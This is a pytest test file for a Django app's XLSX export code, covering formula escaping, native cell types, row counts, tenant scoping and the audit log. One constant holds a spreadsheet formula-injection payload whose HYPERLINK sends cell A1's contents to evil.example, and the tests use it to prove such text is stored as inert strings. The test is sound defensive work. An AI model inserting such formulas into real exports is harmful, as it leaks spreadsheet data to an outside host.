"""people.exporting: the write-only XLSX writer (escaping, native types, counts) and the
queryset-to-FileResponse export (one query, audit line, attachment)."""

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from people.exporting import queryset_rows, write_xlsx, xlsx_export_response
from people.models import Department
from people.reports import XLSX_CONTENT_TYPE
from people.tenancy import tenant_context
from tests.people.factories import DepartmentFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read(file) -> list[tuple]:
    return list(load_workbook(BytesIO(file.read())).active.iter_rows(values_only=True))


def test_text_that_starts_like_a_formula_is_written_as_text():
    rows = [[EVIL, "+49 30 1234", "-1+2", "@SUM(A1)", "plain", "a=b"]]
    workbook = load_workbook(BytesIO(write_xlsx(rows, list("ABCDEF"), sheet_title="S").read()))
    cells = list(workbook.active.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells] == rows[0]
    assert all(cell.data_type == "s" for cell in cells)  # never "f" (a formula)
    assert [cell.quotePrefix for cell in cells[:4]] == [True] * 4
    assert not cells[4].quotePrefix


def test_dates_numbers_and_decimals_stay_native_cells():
    moment = timezone.make_aware(datetime.datetime(2026, 3, 5, 14, 30))
    row = [datetime.date(2026, 3, 5), moment, Decimal("1234.50"), 7, 2.5, None, True]
    [header, values] = read(write_xlsx([row], list("ABCDEFG"), sheet_title="Types"))
    assert header == tuple("ABCDEFG")
    day, when, amount, count, ratio, empty, flag = values
    assert isinstance(day, datetime.date) and day.date() == datetime.date(2026, 3, 5)
    # Excel has no time zones: an aware datetime is written as the local wall-clock time.
    assert when == timezone.localtime(moment).replace(tzinfo=None)
    assert amount == 1234.5 and count == 7 and ratio == 2.5 and empty is None and flag is True


def test_row_and_column_counts_headers_and_sheet_title():
    rows = ([i, f"name {i}", i * 2] for i in range(250))  # any iterable, consumed once
    workbook = load_workbook(BytesIO(write_xlsx(rows, ["N", "Name", "Double"], sheet_title="x" * 40).read()))
    sheet = workbook.active
    assert sheet.title == "x" * 31  # Excel's limit
    assert (sheet.max_row, sheet.max_column) == (251, 3)
    assert sheet["A1"].font.bold
    assert [c.value for c in sheet[251]] == [249, "name 249", 498]


def test_an_empty_export_has_its_header_row_only():
    assert read(write_xlsx([], ["A", "B"], sheet_title="Empty")) == [("A", "B")]


def test_writes_into_a_given_file():
    output = BytesIO()
    assert write_xlsx([[1]], ["A"], sheet_title="S", output=output) is output
    assert output.tell() == 0 and output.getvalue()[:2] == b"PK"


@pytest.mark.django_db
def test_queryset_rows_fetch_each_lookup_once_and_convert(tenant_a):
    with tenant_context(tenant_a):
        DepartmentFactory(name="Sales", cost_center="CC1")
        columns = [("Name", "name"), ("Upper", "name", str.upper), ("Cost center", "cost_center")]
        with CaptureQueriesContext(connection) as captured:
            rows = list(queryset_rows(Department.objects.filter(name="Sales"), columns))
    assert rows == [["Sales", "SALES", "CC1"]]
    assert len(captured) == 1


@pytest.mark.django_db
def test_export_response_is_an_audited_attachment_of_the_scoped_rows(tenant_a, tenant_b, user_a, caplog):
    with tenant_context(tenant_b):
        DepartmentFactory(name="B only")
    request = RequestFactory().get("/")
    request.user, request.tenant = user_a, tenant_a
    with tenant_context(tenant_a):
        DepartmentFactory(name=EVIL, cost_center="CC9")
        DepartmentFactory(name="Ops", cost_center="CC2")
        with caplog.at_level("INFO", logger="audit"):
            response = xlsx_export_response(
                Department.objects.order_by("cost_center"),
                [("Department", "name"), ("Cost center", "cost_center")],
                filename="departments",
                request=request,
            )
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="departments.xlsx"'
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert sheet.title == "Departments"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Department", "Cost center"],
        ["Ops", "CC2"],
        [EVIL, "CC9"],
    ]
    assert sheet["A3"].data_type == "s"
    record = next(r for r in caplog.records if r.name == "audit")
    assert record.getMessage() == "admin export"
    assert (record.user_id, record.tenant_id, record.model, record.rows) == (
        user_a.pk,
        tenant_a.pk,
        "people.Department",
        2,
    )
